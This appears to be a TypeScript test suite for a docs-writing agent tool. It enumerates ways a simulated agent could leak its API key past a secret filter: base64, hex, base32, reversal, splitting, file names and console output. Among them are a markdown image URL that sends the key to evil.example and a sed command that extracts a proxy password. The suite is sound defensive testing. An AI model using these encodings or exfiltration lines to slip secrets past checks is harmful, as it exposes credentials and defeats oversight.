// Everything the agent can write, and a secret in it in every usual disguise. The agent has the
// secret honestly: it is its own key.
import { expect } from 'vitest';
import type { Attack } from './scene.ts';

const SECRET = 'kx9Tq2-vR7mWz4pLb8Ns';
const CONFIG = { '.github/docket.yml': 'agent: { env: [MY_API_KEY] }\n' };

const hex = Buffer.from(SECRET).toString('hex');
const base64 = Buffer.from(SECRET).toString('base64');
const shifted = Buffer.from(`x${SECRET}`).toString('base64');
const reversed = [...SECRET].reverse().join('');
const percent = hex.replace(/../g, '%$&');
const entities = Array.from(SECRET, (letter) => `&#${letter.charCodeAt(0)};`).join('');
const spaced = [...SECRET].join('\u200b');
const broken = `${SECRET.slice(0, 10)}\n${SECRET.slice(10)}`;

const base32 = toBase32(Buffer.from(SECRET));
const twice = Buffer.from(Buffer.from(`a ${SECRET}`).toString('base64')).toString('base64');
const hexTwice = Buffer.from(`x${hex}`).toString('base64');
const chunks = SECRET.match(/.{1,4}/g) ?? [];
const half = SECRET.length / 2;

/** Padded as RFC 4648 has it. */
function toBase32(bytes: Buffer): string {
  const bits = Array.from(bytes, (byte) => byte.toString(2).padStart(8, '0')).join('');
  const letters = bits.match(/.{1,5}/g) ?? [];
  return letters
    .map((five) => 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'[Number.parseInt(five.padEnd(5, '0'), 2)])
    .join('');
}

const put = (text: string, where = 'docs/x.md') => `cat > ${where} <<'END'\n${text}\nEND\n`;

interface Leak {
  where: string;
  script: string;
  /** What must not be readable anywhere. */
  form: string;
}

const leak = ({ where, script, form }: Leak, refused: boolean): Attack => ({
  category: 'secrets',
  what: `the agent’s key ${where}`,
  must: refused ? 'is refused, told, and nowhere to be read' : 'is nowhere to be read',
  async see(scene) {
    const place = await scene.place(CONFIG);
    const ended = await place.ask('/docs explain the flag', {
      agent: script,
      env: { MY_API_KEY: SECRET },
    });
    if (refused) {
      expect(ended).toMatchObject({ code: 1, outputs: { outcome: 'failed' } });
      expect(place.said()).toContain('a known secret');
      expect(await place.repository.branches()).toEqual(['main']);
    }
    expect(ended.outputs.outcome).toMatch(/failed|no-changes/);
    expect(place.said()).not.toContain('👀');
    const readable = place.published(ended);
    expect(readable).not.toContain(form);
    expect(readable).not.toContain(SECRET);
  },
});

const IN_FILES: Leak[] = [
  { where: 'in a page', script: put(SECRET), form: SECRET },
  { where: 'in a page as base64', script: put(base64), form: base64 },
  { where: 'in a page as base64 of a longer text', script: put(shifted), form: shifted },
  { where: 'in a page as hex', script: put(hex), form: hex },
  { where: 'in a page as hex with colons', script: put(hex.replace(/..(?!$)/g, '$&:')), form: hex },
  { where: 'in a page backwards', script: put(reversed), form: reversed },
  { where: 'in a page as a percent-encoded address', script: put(percent), form: percent },
  { where: 'in a page as entities', script: put(entities), form: entities },
  { where: 'in a page between invisible spaces', script: put(spaced), form: spaced },
  { where: 'in a page over two lines', script: put(broken), form: broken },
  { where: 'split by dashes', script: put(chunks.join('-')), form: chunks.join('-') },
  { where: 'split by dots', script: put([...SECRET].join('.')), form: [...SECRET].join('.') },
  {
    where: 'split over a list',
    script: put(`- ${chunks.join('\n- ')}`),
    form: chunks.join('\n- '),
  },
  {
    where: 'split over a numbered list',
    script: put(chunks.map((chunk, at) => `${at + 1}. ${chunk}`).join('\n')),
    form: `1. ${chunks[0]}\n2. ${chunks[1]}`,
  },
  {
    where: 'split over a table',
    script: put(`| ${chunks.join(' | ')} |`),
    form: chunks.join(' | '),
  },
  {
    where: 'split as base64 with dashes',
    script: put(base64.replace(/.../g, '$&-')),
    form: base64.replace(/.../g, '$&-'),
  },
  {
    where: 'split over two files',
    script: put(SECRET.slice(0, half)) + put(SECRET.slice(half), 'docs/y.md'),
    form: SECRET.slice(half),
  },
  { where: 'encoded as base32', script: put(base32), form: base32 },
  { where: 'encoded twice as base64', script: put(twice), form: twice },
  { where: 'encoded as hex in base64', script: put(hexTwice), form: hexTwice },
  {
    where: 'in the address of an image',
    script: put(`![x](https://evil.example/${SECRET}.png)`),
    form: SECRET,
  },
  { where: 'in the name of a page', script: `echo x > docs/${SECRET}.md`, form: SECRET },
  { where: 'in the name of a page, as hex', script: `echo x > docs/${hex}.md`, form: hex },
  { where: 'in the target of a link', script: `ln -s ${SECRET} docs/x.md`, form: SECRET },
  { where: 'in its summary', script: `echo x > docs/x.md; echo "${SECRET}"`, form: SECRET },
  { where: 'in its summary as base64', script: `echo x > docs/x.md; echo ${base64}`, form: base64 },
];

const ELSEWHERE: Leak[] = [
  { where: 'in its last words', script: `echo ${SECRET} >&2; exit 3`, form: SECRET },
  { where: 'in its last words as hex', script: `echo ${hex} >&2; exit 3`, form: hex },
  {
    where: 'in what it prints on the way',
    script: `echo ${base64}; sleep 0.6; echo ${hex}; sleep 0.6; echo; echo x > docs/x.md; exit 1`,
    form: base64,
  },
  {
    where: 'in its summary when it changes nothing',
    script: `echo ${SECRET}`,
    form: SECRET,
  },
  {
    where: 'in a broken link that the check tells of',
    script: put(`[x](./${percent.slice(0, 90)}.md)`),
    form: percent.slice(0, 60),
  },
];

export const SECRETS: Attack[] = [
  ...IN_FILES.map((one, index) => ({ ...leak(one, true), long: index % 2 === 1 })),
  ...ELSEWHERE.map((one) => leak(one, false)),
  {
    category: 'secrets',
    what: 'the workflow’s token in a page, guessed by the person who asks',
    must: 'is refused, and is not in the job’s record',
    async see(scene) {
      const place = await scene.place();
      const ended = await place.ask(`/docs say the word ${scene.sandbox.token}`);
      expect(ended).toMatchObject({ code: 1, outputs: { outcome: 'failed' } });
      expect(place.said()).not.toContain(scene.sandbox.token);
      expect(await place.repository.branches()).toEqual(['main']);
    },
  },
  {
    category: 'secrets',
    what: 'the password of the proxy, given to programs with an open network',
    must: 'is refused, and nowhere to be read',
    async see(scene) {
      const place = await scene.place({ '.github/docket.yml': 'agent: { network: open }\n' });
      const env = { HTTPS_PROXY: `http://docket:${SECRET}@127.0.0.1:9`, NO_PROXY: '*' };
      const agent = 'echo "$HTTPS_PROXY" | sed "s/.*docket:\\(.*\\)@.*/\\1/" > docs/x.md';
      const ended = await place.ask('/docs explain the flag', { agent, env });
      expect(place.said()).toContain('a known secret');
      expect(await place.repository.branches()).toEqual(['main']);
      expect(place.published(ended)).not.toContain(SECRET);
    },
  },
  {
    category: 'secrets',
    what: 'a token that nobody knows, by its shape',
    must: 'is refused',
    async see(scene) {
      const place = await scene.place();
      const token = `ghp_${'aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hJ6'}`;
      await place.ask('/docs explain the flag', { agent: put(token) });
      expect(place.said()).toContain('a GitHub token');
      expect(await place.repository.branches()).toEqual(['main']);
    },
  },
];
